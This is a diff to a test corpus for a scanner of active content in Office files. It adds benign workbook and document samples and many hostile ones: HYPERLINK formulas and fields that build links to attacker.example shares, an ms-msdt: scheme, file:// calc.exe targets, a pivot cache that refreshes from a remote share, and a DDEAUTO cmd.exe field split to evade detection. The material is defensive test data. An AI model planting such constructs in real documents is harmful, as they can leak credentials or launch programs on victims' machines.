@@ -64,6 +64,7 @@ import {
   sheetWith,
   workbookVml,
 } from '../../fixtures/active-office.ts';
+import { documentOf, tableOfContents, workbookWithStrings } from '../../fixtures/active-office.ts';
 import {
   ofdAnnotationAction,
   ofdEncodedAction,
@@ -1034,6 +1035,9 @@ const officeItems: CorpusItem[] = [
   },
   ...hiddenOfficeItems(),
   ...reachingOfficeItems(),
+  ...computedLinkOfficeItems(),
+  ...queryOfficeItems(),
+  ...alternateContentOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2511,4 +2515,247 @@ export const ACTIVE_GENUINE: readonly {
           '<w:fldSimple w:instr=" HYPERLINK &quot;附件\\\\annex.pdf&quot; "/>',
       ),
   },
+  {
+    id: 'xlsx-hyperlink-picks-web-addresses',
+    declared: 'xlsx',
+    // A list of web sites linked with HYPERLINK(A1), labels and times beside them.
+    bytes: () =>
+      workbookWithStrings(
+        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;打开&quot;)</f><v>打开</v></c>' +
+          '<c r="C1" t="str"><f>HYPERLINK(&quot;#\'汇总表\'!A&quot;&amp;ROW(),&quot;返回&quot;)</f><v>返回</v></c>',
+        ['https://www.miit.gov.cn/', 'QQ:12345', '08:30', 'A: 优秀', 'N/A', '/'],
+        { names: '<definedName name="首页">&quot;https://www.miit.gov.cn/&quot;</definedName>' },
+      ),
+  },
+  {
+    id: 'xlsx-shares-listed-not-linked',
+    declared: 'xlsx',
+    // Share paths as text, which no HYPERLINK picks: nobody's click.
+    bytes: () => workbookWithStrings('<c r="A1" t="s"><v>0</v></c>', ['\\\\\\\\fileserver\\\\集群\\\\申报材料']),
+  },
+  {
+    id: 'docx-table-of-contents-word',
+    declared: 'docx',
+    bytes: () => documentOf(tableOfContents()),
+  },
+  {
+    id: 'docx-table-of-contents-wps',
+    declared: 'docx',
+    bytes: () => documentOf(tableOfContents(true)),
+  },
+  {
+    id: 'docx-fields-touching-harmless-names',
+    declared: 'docx',
+    bytes: () =>
+      documentWith(
+        nestedField('IF', ' MERGEFIELD 性别 ', '="男" "先生" "女士"') +
+          complexField('PAGE', ' \\* MERGEFORMAT') +
+          complexField(' PAGE  \\* Arabic  \\* MERGEFORMAT ') +
+          '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>' +
+          nestedField(' HYPERLINK "https://www.miit.gov.cn/?id=', ' MERGEFIELD 编号 ', '" ') +
+          nestedField(' HYPERLINK \\l "', ' REF 书签 ', '" '),
+      ),
+  },
+  {
+    id: 'docx-text-box-fields-in-both-branches',
+    declared: 'docx',
+    // A text box with a page number, as Word writes it: once in the drawing, once in its VML.
+    bytes: () => documentWith(alternateFields(complexField(' PAGE '), complexField(' PAGE '))),
+  },
 ];
+
+/**
+ * Link targets computed rather than written: HYPERLINK formulas that build theirs from pieces or
+ * pick a share's address the workbook holds, and HYPERLINK fields whose target a nested field
+ * computes.
+ */
+function computedLinkOfficeItems(): CorpusItem[] {
+  const COMPUTED = 'OOXML link whose target is computed';
+  const q = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
+  const picks = '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;附件&quot;)</f><v>附件</v></c>';
+  return [
+    item(
+      'xlsx-hyperlink-picks-share-string',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-share-string-read-first',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx'], { stringsFirst: true }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-rich-text-runs',
+      COMPUTED,
+      () => workbookWithStrings(picks, [['\\', '\\attacker.example\\share\\x.xlsx']]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-program-scheme',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['ms-msdt:-id PCWDiagnostic /skip force']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-defined-name',
+      COMPUTED,
+      () =>
+        workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(附件)</f><v>附件</v></c>', [], {
+          names: `<definedName name="附件">${q('"\\\\attacker.example\\share\\x.xlsx"')}</definedName>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-inline-string',
+      COMPUTED,
+      () =>
+        workbookWithStrings(
+          '<c r="A1" t="inlineStr"><is><t>file:///C:/Windows/System32/calc.exe</t></is></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>x</v></c>',
+          [],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-joined-backslashes',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK("\\"&"\\attacker.example\\share\\x.xlsx","附件")')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-concat',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK(_xlfn.CONCAT("fi","le:///C:/Windows/System32/calc.exe"))')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-char-codes',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK(CHAR(92)&CHAR(92)&"attacker.example\\share\\x")')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-two-cells-joined',
+      COMPUTED,
+      () => workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(A1&amp;A2)</f><v>x</v></c>', ['\\', '\\attacker']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-quote-target',
+      COMPUTED,
+      () => documentWith(nestedField(' HYPERLINK "', ' QUOTE 92 92 ', 'attacker.example\\\\share\\\\x.docx" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-docproperty-target',
+      COMPUTED,
+      () => documentWith(nestedField(' HYPERLINK ', ' DOCPROPERTY 网址 ', ' \\o "附件" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-target-after-long-tip',
+      'OOXML link target after long switches',
+      // A ScreenTip of 255 Chinese characters is 765 bytes as read: past what a field's target was looked for in.
+      () =>
+        documentWith(complexField(` HYPERLINK \\o "${'附件说明'.repeat(64)}" "\\\\\\\\attacker.example\\\\x.docx" `)),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-simple-nested',
+      COMPUTED,
+      () =>
+        documentWith(
+          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "fi</w:instrText></w:r>' +
+            '<w:fldSimple w:instr=" QUOTE &quot;le:///C:/x.exe&quot; "/><w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
+        ),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * A workbook's queries and data model, which refresh from outside sources: Power Query's
+ * DataMashup (in UTF-16, as Excel writes it), a Power Pivot model, a pivot cache whose source is
+ * named by a path into another workbook.
+ */
+function queryOfficeItems(): CorpusItem[] {
+  const QUERIES = 'OOXML queries and data models';
+  const mashup =
+    '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAEUDAABQSwMEFAACAAgA</DataMashup>';
+  return [
+    item(
+      'xlsx-power-query-datamashup',
+      QUERIES,
+      () => office('xlsx', {}, [{ name: 'customXml/item1.xml', data: utf16(mashup) }]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-power-pivot-model',
+      QUERIES,
+      () =>
+        office(
+          'xlsx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'xlsx',
+              '<Override PartName="/xl/model/item.data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/>',
+            ),
+          },
+          [{ name: 'xl/model/item.data', data: randomBytes(512) }],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-pivot-source-in-another-workbook',
+      QUERIES,
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
+            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource name="'\\\\attacker.example\\share\\[b.xlsx]S'!A1:B9"/></cacheSource></pivotCacheDefinition>`,
+          },
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/** A run holding an mc:AlternateContent whose Choice (Word 2010 on) and Fallback hold `choice` and `fallback`. */
+function alternateFields(choice: string, fallback: string): string {
+  const MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
+  const box = (runs: string) => `<w:txbxContent><w:p>${runs}</w:p></w:txbxContent>`;
+  return `<w:r><mc:AlternateContent ${MC}><mc:Choice Requires="wps"><w:drawing>${box(choice)}</w:drawing></mc:Choice><mc:Fallback><w:pict>${box(fallback)}</w:pict></mc:Fallback></mc:AlternateContent></w:r>`;
+}
+
+/**
+ * Field characters in one branch of an mc:AlternateContent, which Word reads while skipping the
+ * other: an `end` only Word 2007 sees ends a field early for this check, so the name a nested
+ * field then computes (`INCLUDE` + `PICTURE`) would go unseen.
+ */
+function alternateContentOfficeItems(): CorpusItem[] {
+  const SPLIT = 'OOXML field split by mc:AlternateContent';
+  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>';
+  const rest = `${complexField(' QUOTE "INCLUDE" ')}<w:r><w:instrText>PICTURE "\\\\\\\\attacker.example\\\\x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
+  return [
+    item(
+      'docx-field-end-in-fallback',
+      SPLIT,
+      () => documentWith(begin + alternateFields('', end) + rest),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-field-instructions-in-choice',
+      SPLIT,
+      () =>
+        documentWith(
+          begin.replace(' IF ', ' ') +
+            alternateFields('<w:r><w:instrText>DDE</w:instrText></w:r>', '<w:r><w:instrText>X</w:instrText></w:r>') +
+            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText></w:r>' +
+            end,
+        ),
+      'OOXML_UNREADABLE',
+    ),
+  ];
+}
